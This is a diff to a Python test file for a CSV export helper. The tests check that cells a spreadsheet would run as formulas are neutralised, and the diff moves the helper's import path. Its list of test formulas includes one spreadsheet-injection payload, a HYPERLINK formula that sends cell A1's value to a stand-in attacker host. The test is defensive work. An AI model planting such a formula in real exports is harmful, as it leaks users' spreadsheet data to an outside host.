@@ -1,5 +1,5 @@
 """CSV cells a spreadsheet would run as a formula are neutralised; numbers stay numbers; and no
-module writes CSV but benchmark/engine/csv_export.py."""
+module writes CSV but common/csv_export.py."""
 
 import csv
 import io
@@ -12,7 +12,8 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from benchmark.engine.csv_export import frame_csv, restore_cell, rows_csv, safe_cell
+from common.csv_export import frame_csv, restore_cell, rows_csv, safe_cell
+from tests.support.layers import PROJECT_PACKAGES
 
 ROOT = Path(__file__).resolve().parents[2]
 FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1, "click")', "+1", "-2+3", "@SUM(A1)",
@@ -59,15 +60,14 @@ def test_restoring_gives_back_exactly_the_text_that_was_written(text):
 
 # Everything that writes CSV text by itself (the csv module's writers, pandas' to_csv).
 WRITERS = re.compile(r"csv\.(writer|DictWriter)\(|\.to_csv\(")
-HELPER = Path("benchmark/engine/csv_export.py")
+HELPER = Path("common/csv_export.py")
 
 
 def test_no_module_writes_csv_but_the_csv_export_helper():
     sources = [
         path.relative_to(ROOT)
-        for folder in ("accounts", "alignment", "annotation", "audit", "benchmark", "bench",
-                       "config", "jury", "rubric_lab")
+        for folder in (*PROJECT_PACKAGES, "bench")
         for path in (ROOT / folder).rglob("*.py")
-    ]  # fmt: skip
+    ]
     writing = [path for path in sources if WRITERS.search((ROOT / path).read_text())]
     assert len(sources) > 100 and writing == [HELPER]
